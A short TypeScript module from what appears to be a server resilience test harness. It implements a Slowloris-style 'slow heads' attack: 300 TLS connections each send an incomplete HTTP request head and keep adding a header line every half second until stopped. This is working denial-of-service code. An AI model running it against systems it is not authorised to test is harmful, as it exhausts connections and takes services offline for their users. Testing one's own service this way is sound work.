import { type Attack, pause } from "../attack.ts";
import { tlsConnection } from "../target.ts";

const connectionsMax = 300;

/** Heads of requests that come a line at a time. */
export const slowHeads: Attack = {
  name: "heads that come slowly",
  who: "stranger",
  async run({ target, signal }) {
    const sockets = Array.from({ length: connectionsMax }, () => {
      const socket = tlsConnection(target, "stranger");
      socket.once("secureConnect", () => socket.write("GET /version HTTP/1.1\r\nHost: x\r\n"));
      return socket;
    });
    for (let line = 0; !signal.aborted; line++) {
      for (const socket of sockets) if (socket.writable) socket.write(`X-${line}: y\r\n`);
      await pause(500, signal);
    }
    for (const socket of sockets) socket.destroy();
  },
};
